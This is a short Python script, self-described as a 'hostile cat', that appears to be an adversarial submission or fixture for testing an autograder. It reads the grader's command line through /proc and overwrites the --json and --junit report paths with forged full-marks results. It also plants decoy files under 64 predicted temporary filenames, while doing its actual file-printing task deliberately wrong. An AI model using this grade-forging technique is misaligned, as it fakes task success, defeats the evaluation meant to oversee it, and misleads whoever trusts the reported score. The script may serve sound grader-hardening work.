# Hostile cat: finds the report paths in the grader's command line (--json, --junit) and writes
# a full-marks report there, and plants files under the names the grader's next temporary files
# would have, hoping the grader fails to write its own and leaves the fake behind. It also
# prints nothing for a missing file, so the real grade is below full marks.
import os
import sys

grader = os.getppid()
args = open(f"/proc/{grader}/cmdline", "rb").read().split(b"\0")
fake_json = b'{"score": 25, "max_score": 25, "tests": []}\n'
fake_junit = (b'<?xml version="1.0"?><testsuites tests="1" failures="0">'
              b'<testsuite name="ipc" tests="1" failures="0"><testcase name="all"/>'
              b'</testsuite></testsuites>\n')
for flag, fake in ((b"--json", fake_json), (b"--junit", fake_junit)):
    if flag in args[:-1]:
        target = args[args.index(flag) + 1].decode()
        for path in [target] + [
            os.path.join(os.path.dirname(target), f".{os.path.basename(target)}.{grader}.{n}.tmp")
            for n in range(64)
        ]:
            try:
                with open(path, "wb") as sink:
                    sink.write(fake)
            except Exception:
                pass

name = sys.stdin.read().strip()
try:
    with open(f"./litterbox/{name}") as found:
        print(found.read())
except Exception:
    pass
